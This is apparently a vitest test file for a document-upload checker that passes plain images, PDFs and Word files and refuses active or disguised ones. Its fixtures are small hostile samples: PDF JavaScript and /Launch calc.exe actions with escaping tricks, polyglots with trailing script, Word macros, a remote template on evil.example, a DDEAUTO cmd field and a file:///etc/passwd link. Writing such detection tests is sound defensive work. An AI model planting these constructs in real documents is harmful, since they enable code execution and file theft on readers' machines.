import { deflateSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { renderPdf } from '../pdf.ts'
import { zipOf } from '#test/support/zip.ts'
import { checkDocument } from './document-check.ts'

// Plain documents pass; whatever would act, fetch, carry or pretend is refused with its reason.

const png = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
)
const jpeg = Buffer.from(
  'ffd8ffe000104a46494600010100000100010000ffdb004300' +
    '08'.repeat(64) +
    'ffc0000b080001000101011100ffc40014000100000000000000000000000000000009ffc4001410010000000000000000000000000000000affda0008010100003f00d2cf20ffd9',
  'hex',
)

const pdfOf = (objects: string): Buffer =>
  Buffer.from(
    `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n${objects}\ntrailer << /Root 1 0 R >>\n%%EOF\n`,
    'latin1',
  )
const packedPdf = (objects: string, filter = '/FlateDecode'): Buffer => {
  const packed = deflateSync(Buffer.from(objects)).toString('latin1')
  return pdfOf(
    `5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter ${filter} /Length ${packed.length} >>\nstream\n${packed}\nendstream\nendobj`,
  )
}

const types =
  '<Types xmlns="x"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
const archive = (parts: Record<string, string>): Buffer =>
  zipOf(Object.entries(parts).map(([name, text]) => ({ name, bytes: Buffer.from(text) })))
const docxOf = (more: Record<string, string> = {}): Buffer =>
  archive({
    '[Content_Types].xml': types,
    'word/document.xml': '<w:document><w:t>你好</w:t></w:document>',
    ...more,
  })
const relation = (type: string, target: string, mode = ''): string =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${mode === '' ? '' : ` TargetMode="${mode}"`}/></Relationships>`

const refusal = (bytes: Buffer): Promise<string> =>
  checkDocument(bytes).then(
    (type) => type,
    (error: { code: string; params?: { what?: string } }) =>
      [error.code, error.params?.what].filter(Boolean).join(' '),
  )

describe('plain documents', () => {
  it('pass, by what they are and not by how they are called', async () => {
    expect(await checkDocument(png)).toBe('png')
    expect(await checkDocument(jpeg)).toBe('jpeg')
    expect(await checkDocument(Buffer.concat([jpeg, jpeg]))).toBe('jpeg')
    expect(await checkDocument(docxOf())).toBe('docx')
    const pdf = await renderPdf({ template: '= 授权书 #link("https://example.com")[x]', data: '' })
    expect(await checkDocument(Buffer.from(pdf))).toBe('pdf')
    expect(await checkDocument(packedPdf('6 0 << /Type /Pages /Kids [] >>'))).toBe('pdf')
    expect(
      await checkDocument(
        docxOf({
          'word/_rels/document.xml.rels': relation('hyperlink', 'https://example.com', 'External'),
        }),
      ),
    ).toBe('docx')
  })
})

describe('what is refused', () => {
  it.each<[string, Buffer, string]>([
    ['a program', Buffer.from('MZ\x90\0'), 'document_type'],
    ['a page called .pdf', Buffer.from('<html><script>1</script>'), 'document_type'],
    ['old Office', Buffer.from('d0cf11e0a1b11ae1', 'hex'), 'document_type'],
    [
      'JavaScript',
      pdfOf('3 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj'),
      'document_active JavaScript',
    ],
    [
      'JavaScript by another spelling',
      pdfOf('3 0 obj << /S /J#61vaScript >> endobj'),
      'document_active JavaScript',
    ],
    [
      'JavaScript in an object stream',
      packedPdf('6 0 << /S /JavaScript /JS (x) >>'),
      'document_active JavaScript',
    ],
    [
      'an object stream that cannot be looked into',
      packedPdf('6 0 << >>', '[/ASCII85Decode /FlateDecode]'),
      'document_active opaque_objects',
    ],
    ['a program start', pdfOf('3 0 obj << /S /Launch /F (calc.exe) >> endobj'), 'document_active Launch'],
    [
      'a file inside',
      pdfOf('3 0 obj << /Names << /EmbeddedFiles 4 0 R >> >> endobj'),
      'document_active EmbeddedFiles',
    ],
    [
      'an object among the bytes of a picture',
      pdfOf('3 0 obj\n<< /Length 40 >>\nstream\nxx 4 0 obj << /S /Launch >> endobj\nendstream\nendobj'),
      'document_active hidden_object',
    ],
    [
      'an object stream whose packing is told elsewhere',
      pdfOf('5 0 obj << /Type /ObjStm /N 1 /First 4 /Filter 9 0 R >>\nstream\nxx\nendstream endobj'),
      'document_active opaque_objects',
    ],
    [
      'an object behind a comment, in what only looks like a stream',
      pdfOf('%stream\n4 %x\n0 obj [<< /S /Launch >>] endobj\nendstream'),
      'document_active hidden_object',
    ],
    ['encryption', pdfOf('3 0 obj << >> endobj\ntrailer << /Encrypt 4 0 R >>'), 'document_encrypted'],
    [
      'an archive behind a PDF',
      Buffer.concat([pdfOf(''), Buffer.from('PK\x05\x06'), Buffer.alloc(18)]),
      'document_polyglot trailing_data',
    ],
    [
      'a page behind a picture',
      Buffer.concat([png, Buffer.from('<script>')]),
      'document_polyglot trailing_data',
    ],
    [
      'a page behind a photograph',
      Buffer.concat([jpeg, Buffer.from('<script>')]),
      'document_polyglot trailing_data',
    ],
    ['half a picture', png.subarray(0, 50), 'document_broken'],
    ['half a photograph', jpeg.subarray(0, jpeg.length - 2), 'document_broken'],
    ['half a PDF', Buffer.from('%PDF-1.7\n1 0 obj'), 'document_broken'],
  ])('%s', async (_name, bytes, reason) => expect(await refusal(bytes)).toBe(reason))

  it.each<[string, Record<string, string>, string]>([
    ['macros', { 'word/vbaProject.bin': 'x' }, 'document_active macro'],
    [
      'a macro content type',
      { '[Content_Types].xml': types.replace('document.main', 'document.macroEnabled.main') },
      'document_active macro',
    ],
    [
      'a template from elsewhere',
      {
        'word/_rels/settings.xml.rels': relation(
          'attachedTemplate',
          'https://evil.example/t.dotm',
          'External',
        ),
      },
      'document_active external_content',
    ],
    [
      'a picture from elsewhere',
      { 'word/_rels/document.xml.rels': relation('image', 'https://evil.example/p.png', 'External') },
      'document_active external_content',
    ],
    ['an embedded object', { 'word/embeddings/oleObject1.bin': 'x' }, 'document_active embedded_file'],
    [
      'a page as a part',
      { 'word/_rels/document.xml.rels': relation('aFChunk', 'chunk.xml') },
      'document_active embedded_file',
    ],
    [
      'a field that starts a program',
      {
        'word/header1.xml':
          '<w:h xmlns:w="w"><w:instrText>DDE</w:instrText><w:instrText>AUTO cmd</w:instrText></w:h>',
      },
      'document_active DDEAUTO',
    ],
    [
      'a field behind another',
      {
        'word/header2.xml':
          '<w:d xmlns:w="w"><w:fldChar w:fldCharType="begin"/><w:instrText>PAGE</w:instrText><w:fldChar w:fldCharType="begin"/><w:instrText>&#68;DE x</w:instrText></w:d>',
      },
      'document_active DDE',
    ],
    [
      'a link that is none',
      {
        'word/_rels/settings.xml.rels': `<Relationships><Relationship Target='https://evil.example/ Type="x/hyperlink"' Type="x/attachedTemplate" TargetMode="&#69;xternal" Id="r"/></Relationships>`,
      },
      'document_active external_content',
    ],
    [
      'a link to a file of the reader',
      { 'word/_rels/document.xml.rels': relation('hyperlink', 'file:///etc/passwd', 'External') },
      'document_active external_content',
    ],
    [
      'a part in another encoding',
      { 'word/x.xml': '<?xml version="1.0" encoding="UTF-7"?><a/>' },
      'document_broken',
    ],
    ['a part that is no XML', { 'word/x.xml': '<a><b></a>' }, 'document_broken'],
    ['an entity', { 'word/x.xml': '<!DOCTYPE a [<!ENTITY b "c">]>' }, 'document_active entity'],
  ])('in Word: %s', async (_name, more, reason) => expect(await refusal(docxOf(more))).toBe(reason))

  it('a workbook or any other archive', async () => {
    expect(await refusal(archive({ 'xl/workbook.xml': '<x/>' }))).toBe('document_type')
    expect(await refusal(Buffer.concat([docxOf(), Buffer.from('tail')]))).toBe(
      'document_polyglot trailing_data',
    )
  })
})
